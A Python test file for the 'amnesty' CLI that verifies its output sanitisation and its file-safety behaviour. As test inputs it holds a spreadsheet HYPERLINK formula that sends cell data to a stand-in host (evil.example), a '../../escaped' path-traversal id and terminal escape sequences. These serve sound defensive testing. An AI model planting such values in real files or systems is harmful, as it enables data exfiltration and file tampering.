"""What the CLI prints and writes is inert, private, and never silently replaces a file (#9).

Before: a user name with Rich markup crashed after the change was committed, ANSI
codes reached the terminal, CSV output wrote ``=HYPERLINK(...)`` cells as they
came, ``--out`` overwrote whatever was there, and a run was recorded before a bad
``--out`` was noticed.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import stat
import sys
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "workflow"))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "server"))

from casework_world import build_world
from released_world import released_world
from serving import Live

from acting import TEST_PASSWORD
from amnesty.cli import run
from amnesty.cli.output import csv_cell, inert, markup_inert
from amnesty.store.engine import get_engine
from amnesty.workflow.users import add_user

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_inert_escapes_what_a_terminal_would_obey() -> None:
    assert inert("a\x1b[2Jb") == "a\\x1b[2Jb"  # clear screen
    assert inert("one\ntwo") == "one\\x0atwo"  # a forged second line
    assert inert("one\ntwo", lines=True) == "one\ntwo"
    assert inert("abc\u202edcba") == "abc\\u202edcba"  # right-to-left override
    assert inert("\u2028") == "\\u2028"
    assert inert("리영호 Иванов") == "리영호 Иванов"  # scripts stay as they are
    assert markup_inert("odd[/]name[bold]") == "odd\\[/]name\\[bold]"


def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("P01") == "P01" and csv_cell(-3) == -3 and csv_cell(None) is None


def _rows(url: str) -> int:
    with get_engine(url).connect() as conn:
        return int(conn.execute(sa.text("SELECT count(*) FROM runs")).scalar_one())


def test_user_list_is_inert_on_a_terminal_table_and_in_csv(
    duck_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    add_user(duck_url, "root", ["admin"], password=TEST_PASSWORD)
    add_user(duck_url, "odd[/]name", ["auditor"], actor="root", password=TEST_PASSWORD)
    add_user(duck_url, FORMULA, ["auditor"], actor="root", password=TEST_PASSWORD)
    capsys.readouterr()
    assert run(["user", "list", "--db", duck_url]) == 0
    assert "odd[/]name" in capsys.readouterr().out  # shown as typed, no crash
    assert run(["user", "list", "--db", duck_url, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names


@pytest.mark.slow
def test_an_error_quoting_input_stays_inert(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    world = build_world(duck_url)
    out = tmp_path / "no\x1b[2Jfolder" / "d.csv"
    before = _rows(duck_url)
    args = ["evaluate", str(world.decree_path), "--db", duck_url, "--as", "drafter"]
    assert run([*args, "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "no\\x1b[2Jfolder" in err
    assert "does not exist; create it first" in err
    assert _rows(duck_url) == before  # refused before any run was recorded


@pytest.mark.slow
def test_out_refuses_to_overwrite_without_force_and_writes_0600(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    world = build_world(duck_url)
    # rev1 reads health data: the decree refers the seriously ill (docs/security.md)
    args = ["evaluate", str(world.decree_path), "--db", duck_url, "--as", "rev1"]
    for suffix in (".csv", ".jsonl", ".parquet"):
        out = tmp_path / f"determinations{suffix}"
        out.write_text("someone else's work", encoding="utf-8")
        out.chmod(0o644)
        before = _rows(duck_url)
        assert run([*args, "--out", str(out)]) == 1
        assert f"--out {out}: the file exists; give --force to replace it" in (
            capsys.readouterr().err
        )
        assert out.read_text(encoding="utf-8") == "someone else's work"
        assert _rows(duck_url) == before
        assert run([*args, "--out", str(out), "--force"]) == 0
        capsys.readouterr()
        assert out.stat().st_size > 0 and out.read_bytes() != b"someone else's work"
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
        fresh = tmp_path / f"fresh{suffix}"
        assert run([*args, "--out", str(fresh)]) == 0
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


@pytest.mark.slow
def test_what_the_cli_creates_is_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The database a command creates, a rejects file and certificates' folder: only their
    owner reads them (the CLI's umask), whatever module creates them."""
    folder = tmp_path / "new"
    folder.mkdir()
    database = folder / "amnesty.duckdb"
    monkeypatch.setattr("sys.stdin", io.StringIO(TEST_PASSWORD + "\n"))
    assert run(["user", "add", "root", "--role", "admin", "--password-stdin",
                "--db", str(database)]) == 0  # fmt: skip
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
    registry = tmp_path / "registry"
    assert run(["registry", "generate", "--profile", "kp-2015", "--persons", "30", "--seed", "1",
                "--dirty", "0.2", "--out", str(registry)]) == 0  # fmt: skip
    rejects = tmp_path / "rejects.csv"
    assert run(["registry", "import", str(registry), "--skip-invalid", "--rejects",
                str(rejects), "--db", str(database), "--as", "root"]) == 0  # fmt: skip
    capsys.readouterr()
    assert rejects.read_text(encoding="utf-8").count("\n") > 1  # the dirty rows, listed
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    for path in registry.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path


def test_registry_generate_refuses_a_folder_that_holds_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A second generate into a used folder would mix its tables with the first's
    (a stale fault list, another profile's tables): refused unless --force."""
    registry = tmp_path / "registry"
    args = ["registry", "generate", "--profile", "kp-2015", "--seed", "1", "--out", str(registry)]
    assert run([*args, "--persons", "20"]) == 0
    manifest = (registry / "manifest.json").read_bytes()
    capsys.readouterr()
    assert run([*args, "--persons", "25"]) == 1
    err = capsys.readouterr().err
    assert "folder is not empty" in err and "--force" in err
    assert (registry / "manifest.json").read_bytes() == manifest  # nothing written
    assert run([*args, "--persons", "25", "--force"]) == 0
    assert (registry / "manifest.json").read_bytes() != manifest
    a_file = tmp_path / "file"
    a_file.write_text("x", encoding="utf-8")
    assert run(["registry", "generate", "--persons", "5", "--out", str(a_file)]) == 1
    assert "is a file; give a folder" in capsys.readouterr().err


# --- the last outputs that replaced files silently: certificates, prove, --rejects ---


def _one_error(err: str) -> str:
    """The refusal: exactly one line, an ``Error:`` line."""
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), err
    return lines[0]


def _recorded(url: str) -> tuple[int, list[tuple[Any, ...]]]:
    """What a print changes in the database: the audit events, the certificates' record."""
    with get_engine(url).connect() as conn:
        events = int(conn.execute(sa.text("SELECT count(*) FROM audit_events")).scalar_one())
        rows = conn.execute(
            sa.text("SELECT certificate_no, path, sha256 FROM certificates ORDER BY 1")
        ).all()
    return events, [tuple(r) for r in rows]


def _certificate_row(url: str, number: str) -> tuple[Any, Any]:
    with get_engine(url).connect() as conn:
        query = "SELECT path, sha256 FROM certificates WHERE certificate_no = :n"
        row = conn.execute(sa.text(query), {"n": number}).one()
    return row[0], row[1]


def _number(url: str, person: str) -> str:
    with get_engine(url).connect() as conn:
        return str(
            conn.execute(
                sa.text("SELECT certificate_no FROM releases WHERE person_id = :p"), {"p": person}
            ).scalar_one()
        )


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.slow
def test_certificate_refuses_a_pdf_of_the_same_name_and_force_re_records_it(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: a second print wrote over a PDF of the same name, whatever it held. Now it
    is refused before anything is rendered or recorded; --force replaces it, and the
    certificates table then holds the sha256 of the file that is there, audited."""
    done = released_world(duck_url)
    out = tmp_path / "certs"
    args = ["certificate", "--person", "P01", "--out", str(out), "--as", "off1", "--db", duck_url]
    assert run(args) == 0
    pdf = Path(capsys.readouterr().out.strip())
    number = _number(duck_url, "P01")
    assert _certificate_row(duck_url, number) == (str(pdf), _sha(pdf))
    assert stat.S_IMODE(pdf.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    original = pdf.read_bytes()

    pdf.write_bytes(b"someone else's work")
    pdf.chmod(0o644)
    before = _recorded(duck_url)
    assert run(args) == 1
    line = _one_error(capsys.readouterr().err)
    assert str(pdf) in line and "the certificate file exists; give --force to replace it" in line
    assert pdf.read_bytes() == b"someone else's work"
    assert _recorded(duck_url) == before  # no certificate event, no record changed
    assert [p.name for p in out.iterdir()] == [pdf.name]  # no staged file left behind

    assert run([*args, "--force"]) == 0
    capsys.readouterr()
    assert pdf.read_bytes() == original  # the same certificate renders to the same bytes
    assert stat.S_IMODE(pdf.stat().st_mode) == 0o600
    assert _certificate_row(duck_url, number) == (str(pdf), _sha(pdf))
    with get_engine(duck_url).connect() as conn:
        last = conn.execute(
            sa.text(
                "SELECT action, entity_kind, entity_id, after FROM audit_events "
                "ORDER BY seq DESC LIMIT 1"
            )
        ).one()
    assert last[:3] == ("certificate.print", "certificate", number)
    assert json.loads(last[3])["sha256"] == _sha(pdf)
    assert [p.name for p in out.iterdir()] == [pdf.name]
    assert run(["audit", "verify", "--db", duck_url]) == 0
    assert done.roster_id > 0


@pytest.mark.slow
def test_a_replaced_batch_takes_the_record_of_certificates_it_no_longer_holds(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A facility's batch printed again after a release was revoked no longer holds
    that certificate: its record would name a file without it, so --force clears it."""
    done = released_world(duck_url)
    out = tmp_path / "certs"
    args = ["certificate", "--facility", "F1", "--out", str(out), "--as", "off1", "--db", duck_url]
    assert run(args) == 0
    batch = Path(capsys.readouterr().out.strip())
    first = _sha(batch)
    revoked = _number(duck_url, "P02")
    assert _certificate_row(duck_url, revoked) == (str(batch), first)
    assert run(["release", "revoke", "--run", done.world.run_id, "P02", "--reason", "in error",
                "--return-date", "2015-10-20", "--as", "appr1", "--db", duck_url]) == 0  # fmt: skip
    capsys.readouterr()

    before = _recorded(duck_url)
    assert run(args) == 1
    line = _one_error(capsys.readouterr().err)
    assert str(batch) in line and "--force" in line
    assert _sha(batch) == first and _recorded(duck_url) == before

    assert run([*args, "--force"]) == 0
    capsys.readouterr()
    now = _sha(batch)
    assert now != first  # three certificates now, not four
    assert _certificate_row(duck_url, revoked) == (None, None)
    for person in ("P01", "P06", "P07"):
        assert _certificate_row(duck_url, _number(duck_url, person)) == (str(batch), now)
    with get_engine(duck_url).connect() as conn:
        cleared = conn.execute(
            sa.text(
                "SELECT before, after, reason FROM audit_events WHERE entity_kind = 'certificate' "
                "AND entity_id = :n ORDER BY seq DESC LIMIT 1"
            ),
            {"n": revoked},
        ).one()
    assert json.loads(cleared[0]) == {"path": str(batch), "sha256": first}
    assert json.loads(cleared[1])["path"] is None and "replaced" in cleared[2]
    assert run(["audit", "verify", "--db", duck_url]) == 0


@pytest.mark.slow
def test_certificate_refuses_a_missing_folder_and_a_file_as_its_folder(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    released_world(duck_url)
    before = _recorded(duck_url)
    base = ["certificate", "--person", "P01", "--as", "off1", "--db", duck_url]
    missing = tmp_path / "typo" / "certs"
    assert run([*base, "--out", str(missing)]) == 1
    line = _one_error(capsys.readouterr().err)
    assert str(missing) in line and "does not exist; create it first" in line
    assert not (tmp_path / "typo").exists()
    a_file = tmp_path / "notes.txt"
    a_file.write_text("mine", encoding="utf-8")
    assert run([*base, "--out", str(a_file)]) == 1
    assert "is a file; give a folder" in _one_error(capsys.readouterr().err)
    assert a_file.read_text(encoding="utf-8") == "mine"
    assert _recorded(duck_url) == before


@pytest.mark.slow
def test_remote_certificate_refuses_before_it_asks_the_server(
    duck_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The server records every certificate it prints, so a download that could not be
    kept must not be asked for: the refusal comes first; --force replaces (0600)."""
    from amnesty.server.app import create_app
    from amnesty.store.database import Database
    from amnesty.workflow.credentials import issue_token

    done = released_world(duck_url)
    db = Database.open(done.url)
    monkeypatch.setenv("AMNESTY_TOKEN", issue_token(db, "off1", actor="off1").secret)
    out = tmp_path / "pdf"
    out.mkdir()
    kept = out / "certificate-P01.pdf"
    kept.write_bytes(b"someone else's work")
    args = ["remote", "certificate", "--run", done.world.run_id, "--person", "P01"]
    with Live(create_app(db)) as live:
        monkeypatch.setenv("AMNESTY_SERVER", live.url)
        before = _recorded(duck_url)
        assert run([*args, "--out", str(out)]) == 1
        line = _one_error(capsys.readouterr().err)
        assert str(kept) in line and "give --force to replace it" in line
        missing = tmp_path / "typo" / "pdf"
        assert run([*args, "--out", str(missing)]) == 1
        assert "does not exist; create it first" in _one_error(capsys.readouterr().err)
        assert not (tmp_path / "typo").exists()
        assert _recorded(duck_url) == before  # the server was not asked
        assert kept.read_bytes() == b"someone else's work"

        assert run([*args, "--out", str(out), "--force"]) == 0
        capsys.readouterr()
        assert kept.read_bytes().startswith(b"%PDF")
        assert stat.S_IMODE(kept.stat().st_mode) == 0o600
        fresh = tmp_path / "new"
        assert run([*args, "--out", str(fresh)]) == 0
        capsys.readouterr()
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o700
        assert stat.S_IMODE((fresh / "certificate-P01.pdf").stat().st_mode) == 0o600
        live_db_events = _recorded(duck_url)[0]
    assert live_db_events > before[0]  # the two downloads were recorded by the server


KP = Path("decrees/kp-2015-10-party-founding.toml")


def _refuted_decree(folder: Path, assertion: str = "T-OLD") -> Path:
    """The shipped decree with one assertion the solver refutes (a counterexample)."""
    decree = folder / "kp.toml"
    decree.write_text(
        KP.read_text(encoding="utf-8")
        + f'\n[[assertion]]\nid = "{assertion}"\n'
        + "never = 'outcome = \"eligible\" and age >= 70'\n",
        encoding="utf-8",
    )
    return decree


def test_prove_out_refuses_a_folder_that_holds_files_and_force_replaces_the_witness(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: a second prove wrote its tables into the first's counterexample folder,
    mixing them. Now a folder that holds files is refused before any proving, and with
    --force each counterexample's folder is replaced whole (0700, files 0600)."""
    decree = _refuted_decree(tmp_path)
    out = tmp_path / "w"
    args = ["prove", str(decree), "--out", str(out), "--format", "json"]
    assert run(args) == 1  # a refuted assertion
    result = json.loads(capsys.readouterr().out)
    witness = Path(next(r["folder"] for r in result["results"] if r["name"] == "T-OLD"))
    assert witness == out / "T-OLD"
    stale = witness / "stale.parquet"
    stale.write_bytes(b"an earlier witness's table")
    persons = (witness / "persons.parquet").read_bytes()
    notes = out / "notes.txt"
    notes.write_text("mine", encoding="utf-8")

    assert run(args) == 1
    captured = capsys.readouterr()
    line = _one_error(captured.err)
    assert str(out) in line and "the folder is not empty; give --force" in line
    assert captured.out == ""  # refused before anything was proved
    assert stale.exists() and (witness / "persons.parquet").read_bytes() == persons

    assert run([*args, "--force"]) == 1
    capsys.readouterr()
    assert not stale.exists()  # the folder was replaced, not written into
    assert (witness / "persons.parquet").is_file() and notes.read_text(encoding="utf-8") == "mine"
    assert sorted(p.name for p in out.iterdir()) == ["T-OLD", "notes.txt"]  # nothing staged left
    assert stat.S_IMODE(witness.stat().st_mode) == 0o700
    for path in witness.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    # A decree whose assertions all hold writes nothing, and is refused all the same:
    # the check comes before the proving, not before the first write.
    assert run(["prove", str(KP), "--out", str(out)]) == 1
    assert "the folder is not empty" in _one_error(capsys.readouterr().err)


def test_prove_out_refuses_a_missing_folder_and_keeps_witnesses_inside_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    decree = _refuted_decree(tmp_path, assertion="../../escaped")
    missing = tmp_path / "typo" / "w"
    assert run(["prove", str(decree), "--out", str(missing)]) == 1
    captured = capsys.readouterr()
    assert "does not exist; create it first" in _one_error(captured.err)
    assert captured.out == "" and not (tmp_path / "typo").exists()
    a_file = tmp_path / "w.txt"
    a_file.write_text("mine", encoding="utf-8")
    assert run(["prove", str(decree), "--out", str(a_file)]) == 1
    assert "is a file; give a folder" in _one_error(capsys.readouterr().err)
    # An assertion id is the decree author's text: its folder stays inside --out.
    inside = tmp_path / "deep" / "w"
    inside.parent.mkdir()
    assert run(["prove", str(decree), "--out", str(inside), "--format", "json"]) == 1
    result = json.loads(capsys.readouterr().out)
    folder = Path(next(r["folder"] for r in result["results"] if r["status"] == "refuted"))
    assert folder.parent == inside
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deep", "kp.toml", "w.txt"]


def _dirty_registry(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    registry = tmp_path / "registry"
    assert run(["registry", "generate", "--profile", "kp-2015", "--persons", "30", "--seed", "1",
                "--dirty", "0.2", "--out", str(registry)]) == 0  # fmt: skip
    capsys.readouterr()
    return registry


@pytest.mark.slow
def test_rejects_replaces_only_an_earlier_rejects_list_and_writes_it_0600(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """By design an import replaces the rejects list of the one before (the list
    describes the latest import; re-importing after a fix is the normal loop); any
    other file, a folder, a missing folder are refused before the import."""
    registry = _dirty_registry(tmp_path, capsys)
    database = tmp_path / "amnesty.duckdb"
    base = ["registry", "import", str(registry), "--skip-invalid", "--db", str(database)]

    extract_table = registry / "persons.parquet"  # a slip of the hand: the extract itself
    table = extract_table.read_bytes()
    assert run([*base, "--rejects", str(extract_table)]) == 1
    line = _one_error(capsys.readouterr().err)
    assert str(extract_table) in line and "not an earlier rejects list" in line
    assert extract_table.read_bytes() == table
    a_folder = tmp_path / "folder"
    a_folder.mkdir()
    assert run([*base, "--rejects", str(a_folder)]) == 1
    assert "is a folder; give a file name" in _one_error(capsys.readouterr().err)
    missing = tmp_path / "typo" / "rejects.csv"
    assert run([*base, "--rejects", str(missing)]) == 1
    assert "does not exist; create it first" in _one_error(capsys.readouterr().err)
    assert not (tmp_path / "typo").exists()
    assert not database.exists()  # refused before the database was opened, or the import

    for name in ("rejects.csv", "rejects.jsonl"):
        rejects = tmp_path / name
        assert run([*base, "--rejects", str(rejects)]) == 0
        capsys.readouterr()
        first = rejects.read_bytes()
        assert first.count(b"\n") > 1 and stat.S_IMODE(rejects.stat().st_mode) == 0o600
        rejects.chmod(0o644)  # as an earlier version, or a copy, may have left it
        assert run([*base, "--rejects", str(rejects)]) == 0  # the same extract, unchanged
        capsys.readouterr()
        assert rejects.read_bytes() == first
        assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
